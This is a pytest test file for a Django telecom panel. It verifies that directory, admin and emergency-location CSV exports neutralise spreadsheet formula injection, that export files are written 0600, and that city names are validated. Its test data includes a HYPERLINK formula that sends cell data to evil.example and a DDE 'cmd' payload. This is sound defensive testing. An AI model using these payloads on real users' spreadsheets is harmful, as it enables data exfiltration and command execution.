"""CSV formula injection (issue 10, exports): every cell of the three exports that a spreadsheet
may open is neutralised by one rule (telecom_panel.csv_safety), in Python and in its SQL twin
(the directory export, written by COPY on PostgreSQL); a city is a commune's name and nothing
else; export files are readable by their owner only (0600).

Run on SQLite and on PostgreSQL (DATABASE_URL=postgres://...): the directory export takes its
COPY path there."""

import csv
import io
import os
import re
import stat
from io import StringIO

import pytest
from django.core.management import call_command
from django.db import connection
from django.urls import reverse

from directory.models import Publication
from lines.communes import LocationError, PlaceNameError, resolve_location
from lines.models import ContactDetails, Service, ServiceChange
from lines.services import contact_details_apply
from telecom_panel.csv_safety import FORMULA_TRIGGERS, csv_writer, neutralised, neutralised_sql, open_private
from tests.factories import COMPANY_DETAILS, make_customer, make_service

pytestmark = pytest.mark.django_db

# What a customer can type in the panel's form (printable text).
TYPED = [
    '=HYPERLINK("http://evil.example/?d="&A2,"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
]
# Trimmed by the form, but the service it uses takes them as they are: data written by another
# path (an import, the shell, a row older than the form's checks) meets the same exports.
CONTROL = ["\t=1+1", "\r=1+1"]
HOSTILE = TYPED + CONTROL
SIGNED_DIGITS = re.compile(r"[+-][0-9]+")
HOSTILE_LOGIN = "-2+3"  # a valid Django username, and a formula


def safe(cell) -> bool:
    """What the rule guarantees of every cell: it does not begin a formula."""
    return not cell.startswith(FORMULA_TRIGGERS) or bool(SIGNED_DIGITS.fullmatch(cell))


def mode_of(path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


@pytest.fixture
def wide_umask():
    """A umask that takes nothing away: the exports must not rely on the process's umask."""
    previous = os.umask(0)
    yield
    os.umask(previous)


# The rule ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    [*HOSTILE, "=1+1", "+", "-", "@", "=", "\t", "\r", "-1+1", "+1E5", "+33 9 72 10 20 30", "+33972102030=1",
     "+33972102030\n", "-5 ", "+\u0663\u0663", "=\u00e9", "@Lyon", "-Lyon"],
)  # fmt: skip
def test_a_cell_that_begins_a_formula_gets_a_quote(value):
    assert neutralised(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    ["", "Paris", "Saint-Étienne", "09 72 10 20 30", "0972102030", "'=1+1", " =1+1", "a=1", "Lyon 3e",
     "+33972102030", "+262262123456", "-5", "+0"],
)  # fmt: skip
def test_text_and_signed_numbers_are_written_as_they_are(value):
    """A signed run of digits (an E.164 number) can run nothing: kept usable, as E.164 writes it."""
    assert neutralised(value) == value


def test_what_is_not_text_is_left_alone():
    assert neutralised(None) is None and neutralised(12) == 12


TWIN_VALUES = [
    *HOSTILE, "=1+1", "+", "-", "@", "=", "\t", "\r", "\t", "-1+1", "+1E5", "+33 9 72 10 20 30", "+33972102030=1",
    "+33972102030\n", "+33972102030\r", "+\u0663\u0663", "", "Paris", "Saint-Étienne", "09 72 10 20 30", "'=1",
    " =1", "+33972102030", "+262262123456", "-5", "+0", "\u00e9=", "=\u00e9\u00e9", "\uff1d1", None,
]  # fmt: skip


def test_the_sql_twin_gives_the_same_cell_as_python():
    """directory.staging neutralises in SQL (the same query on both databases): it must give,
    cell for cell, what the Python rule gives."""
    with connection.cursor() as cursor:
        cursor.execute("DROP TABLE IF EXISTS csv_safety_cells")
        cursor.execute("CREATE TEMPORARY TABLE csv_safety_cells (id INTEGER PRIMARY KEY, value TEXT)")
        try:
            cursor.executemany(
                "INSERT INTO csv_safety_cells (id, value) VALUES (%s, %s)", list(enumerate(TWIN_VALUES))
            )
            cursor.execute(f"SELECT id, {neutralised_sql('value')} FROM csv_safety_cells ORDER BY id")
            from_sql = [value for _, value in cursor.fetchall()]
        finally:
            cursor.execute("DROP TABLE csv_safety_cells")
    assert from_sql == [neutralised(value) for value in TWIN_VALUES]


def test_a_cell_holding_a_cr_is_quoted_so_that_it_cannot_end_the_row():
    """Python's csv, with LF line ends, would write a CR bare (most readers end the row there);
    csv_writer quotes it, as PostgreSQL's COPY ... CSV does, and changes nothing else."""
    out = io.StringIO(newline="")
    writer = csv_writer(out)
    writer.writerows([["'\r=1+1", "a,b", 'q"', None, "", "plain"], ("x", "y")])
    assert out.getvalue() == '"\'\r=1+1","a,b","q""",,,plain\nx,y\n'
    assert list(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [
        ["'\r=1+1", "a,b", 'q"', "", "", "plain"],
        ["x", "y"],
    ]


# The three exports, fed through the panel ---------------------------------------------------------


def professional_post(value, *, designation):
    return {
        "legal_form": "professional", "siret": COMPANY_DETAILS["siret"], "ape_code": "62.01Z",
        "company_name": value, "profession": value, "designation_complement": "", "street_number": "",
        "street_type": "", "street_name": value, "address_complement": value, "postcode": "69003",
        "city": "Lyon", "country": "FR", "listed": "True", "marketing_accepted": "False",
        "reverse_search": "False", "line_designation": designation,
    }  # fmt: skip


def designation_for(value):
    """The line designation the panel accepts (the directories refuse a URL or an e-mail-like `@`)."""
    return "Accueil" if re.search(r"https?://|@", value) else value


@pytest.fixture
def hostile(client, customer):
    """One listed professional per hostile value: name, activity, street, complement and line
    designation typed as that value through the panel's edit form; those beginning with a TAB or
    CR (which the form trims) then through the service the form calls. Plus a customer
    whose login is a formula, with a line (labelled with a formula) that has no address yet."""
    client.force_login(customer)
    services = {}
    for index, value in enumerate(TYPED):
        service = make_service(customer, number=f"+3319988{index:04d}")
        response = client.post(
            reverse("service_contact_edit", args=[service.number_digits]),
            professional_post(value, designation=designation_for(value)),
        )
        assert response.status_code == 302, response.content.decode()[:2000]
        services[value] = service
    for index, value in enumerate(CONTROL):
        service = make_service(customer, number=f"+3319989{index:04d}")
        response = client.post(
            reverse("service_contact_edit", args=[service.number_digits]),
            professional_post(value, designation=value),
        )
        # The form trims a leading TAB or CR (and refuses one inside the text): what it saves
        # begins with `=`, which the exports neutralise like any other.
        assert response.status_code == 302
        assert ContactDetails.objects.get(service=service).street_name == value.strip()
        post = professional_post(value, designation=value)
        details = {name: post[name] for name in ("legal_form", "siret", "company_name", "profession",
                   "designation_complement", "street_type", "street_name", "address_complement", "postcode",
                   "city")}  # fmt: skip
        contact_details_apply(
            service=service,
            details={**details, "ape_code": "6201Z", "street_number": None},
            publication={"listed": True, "line_designation": value},
            actor=customer,
        )
        services[value] = service
    client.logout()
    other = make_customer(HOSTILE_LOGIN, reference="ev30003-1")
    services["login"] = make_service(other, number="+33199880999", label='=HYPERLINK("http://evil.example")')
    return services


def test_the_directory_export_neutralises_every_cell(hostile, settings, wide_umask):
    call_command("sync_directory", "--no-progress", stdout=StringIO())

    export_dir = settings.DIRECTORY_EXPORT_DIR
    (export,) = export_dir.glob("annuaire-*.csv")
    with open(export, encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    by_id = {row["listing_id"]: row for row in rows}
    for value in HOSTILE:
        service = hostile[value]
        row = by_id[str(service.pk)]
        assert row["action"] == "add"
        assert row["number"] == str(service.number)  # E.164, kept usable: a signed run of digits
        assert row["name"] == row["activity"] == "'" + value
        assert row["street"] == f"'{value}, {value}"
        expected = designation_for(value)
        assert row["line_designation"] == (expected if expected == "Accueil" else "'" + value)
        # The official name is what is stored and published (issue 13), never the typed "Lyon".
        assert (row["postcode"], row["city"], row["departement"]) == ("69003", "Lyon 3e Arrondissement", "69")
    assert all(safe(cell) for row in rows for cell in row.values())
    # Only the export is neutralised: our own directory and the staged listing keep what was typed.
    assert Publication.objects.filter(service__in=[hostile[v] for v in HOSTILE], status="synced").count() == 6
    manifest = export.with_name(export.name + ".manifest.json")
    assert mode_of(export) == mode_of(manifest) == 0o600
    assert not list(export_dir.glob(".*.tmp"))


def test_a_withdrawal_part_is_written_0600_too(customer, settings, wide_umask):
    from directory.publishers import FilePublisher
    from directory.sync import directory_sync_run

    service = make_service(customer)
    run = directory_sync_run(trigger="command")  # nothing to send: a run to hang the part on
    publisher = FilePublisher()
    publisher.withdraw([service.pk], run_id=run.pk, part="refused-1", now=run.started_at)
    part = settings.DIRECTORY_EXPORT_DIR / f".run-{run.pk}" / "refused-1.csv"
    assert mode_of(part) == 0o600
    assert part.read_text(encoding="utf-8").startswith(f"withdraw,{service.pk},")


def test_the_admin_export_neutralises_every_cell(hostile, client, support_staff):
    client.force_login(support_staff)
    response = client.post(
        "/admin/lines/service/",
        {"action": "export_csv", "_selected_action": [service.pk for service in hostile.values()]},
    )
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    content = b"".join(response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(content, newline="")))
    assert len(rows) == len(hostile)
    by_number = {row["numero"]: row for row in rows}
    for value in HOSTILE:
        row = by_number[hostile[value].national_number]
        assert (row["titulaire"], row["ville"]) == ("'" + value, "Lyon 3e Arrondissement")
    login_row = by_number[hostile["login"].national_number]
    assert login_row["client"] == "'" + HOSTILE_LOGIN
    assert login_row["libelle"] == '\'=HYPERLINK("http://evil.example")'
    assert all(safe(cell) for row in rows for cell in row.values())


def test_the_emergency_feed_neutralises_every_cell_and_is_0600(hostile, tmp_path, wide_umask):
    out = StringIO()
    call_command("export_emergency_locations", "--output", str(tmp_path), "--no-progress", stdout=out)

    (locations,) = tmp_path.glob("urgence-*-complet.csv")
    (unresolved,) = tmp_path.glob("urgence-*-adresses-manquantes.csv")
    with open(locations, encoding="utf-8", newline="") as f:
        rows = {row["number"]: row for row in csv.DictReader(f)}
    for value in HOSTILE:
        row = rows[str(hostile[value].number)]  # the E.164 number, exactly: the routing needs it
        assert (row["street"], row["complement"], row["city"]) == (
            "'" + value,
            "'" + value,
            "Lyon 3e Arrondissement",
        )
    with open(unresolved, encoding="utf-8", newline="") as f:
        gaps = list(csv.DictReader(f))
    assert [(row["number"], row["customer"]) for row in gaps] == [("+33199880999", "'" + HOSTILE_LOGIN)]
    assert all(safe(cell) for row in [*rows.values(), *gaps] for cell in row.values())
    assert mode_of(locations) == mode_of(unresolved) == 0o600
    assert not list(tmp_path.glob(".*"))


def test_an_export_file_left_behind_is_replaced_by_a_private_one(tmp_path, wide_umask):
    path = tmp_path / ".leftover.tmp"
    path.write_text("old data")
    path.chmod(0o666)
    with open_private(path, "w", encoding="utf-8") as f:
        f.write("new")
    assert (mode_of(path), path.read_text()) == (0o600, "new")
    with pytest.raises(ValueError):
        open_private(path, "r")


# The city is a commune's name ---------------------------------------------------------------------

VALID_POST = {
    "legal_form": "individual", "last_name": "Durand", "first_name": "Claire", "street_number": "10",
    "street_type": "rue", "street_name": "Oberkampf", "postcode": "69003", "city": "Lyon", "country": "FR",
    "listed": "True", "marketing_accepted": "False", "reverse_search": "False", "name_display": "full",
    "address_display": "full", "line_designation": "",
}  # fmt: skip


@pytest.mark.parametrize(
    ("postcode", "city", "message"),
    [
        ("69003", "=Lyon", "Indiquez le nom de la commune"),
        ("75011", "+Paris", "Indiquez le nom de la commune"),
        ("69003", "@Lyon", "Indiquez le nom de la commune"),
        ("69003", "-Lyon", "Indiquez le nom de la commune"),
        ("69003", "Lyon|x", "Indiquez le nom de la commune"),
        ("69003", 'Lyon"', "Indiquez le nom de la commune"),
        ("69003", "Ly=on", "Indiquez le nom de la commune"),
        ("69003", "Lyon;", "Indiquez le nom de la commune"),
        ("75011", "Paris, 11e", "Indiquez le nom de la commune"),
        ("42000", "Saint-Étienne 42", "sauf l'arrondissement de Paris, Lyon ou Marseille"),
        ("75011", "Paris Cedex 11", "CEDEX"),
    ],
)
def test_a_city_that_is_no_communes_name_is_refused_and_nothing_is_saved(
    client, customer, postcode, city, message
):
    service = make_service(customer)
    client.force_login(customer)
    response = client.post(
        reverse("service_contact_edit", args=[service.number_digits]),
        {**VALID_POST, "postcode": postcode, "city": city},
    )
    assert response.status_code == 400
    assert message in " ".join(response.context["details_form"].errors["city"])
    assert not ContactDetails.objects.filter(service=service).exists()
    assert not Publication.objects.filter(service=service).exists()


@pytest.mark.parametrize(
    ("postcode", "city", "official"),
    [("69003", "Lyon 3e", "Lyon 3e Arrondissement"),
     ("75011", "paris 11e arrondissement", "Paris 11e Arrondissement"),
     ("94240", "L\u2019Haÿ-les-Roses", "L'Haÿ-les-Roses"), ("42000", "St. Étienne", "Saint-Étienne"),
     ("42000", "Saint\u2013Étienne", "Saint-Étienne"), ("58120", "Château-Chinon (Ville)", "Château-Chinon (Ville)")],
)  # fmt: skip
def test_a_communes_name_as_people_write_it_is_still_accepted(client, customer, postcode, city, official):
    service = make_service(customer)
    client.force_login(customer)
    response = client.post(
        reverse("service_contact_edit", args=[service.number_digits]),
        {**VALID_POST, "postcode": postcode, "city": city},
    )
    assert response.status_code == 302
    # Stored (and published) as the official name; the history keeps what was typed.
    assert ContactDetails.objects.get(service=service).city == official
    typed = ServiceChange.objects.get(service=service).changes.get("city_typed")
    assert typed == ([None, city] if city != official else None)


def test_the_service_refuses_such_a_city_too(customer):
    """The check is in the matching itself (lines.communes.resolve_location), which the service
    calls: `=Lyon` normalises to LYON, but names no commune."""
    with pytest.raises(PlaceNameError):
        resolve_location("69003", "=Lyon")
    service = make_service(customer)
    details = {**COMPANY_DETAILS, "city": "=Lyon"}
    with pytest.raises(LocationError):
        contact_details_apply(service=service, details=details, publication={"listed": True}, actor=customer)
    assert not ContactDetails.objects.filter(service=service).exists()
    assert Service.objects.get(pk=service.pk).state == Service.State.ACTIVE
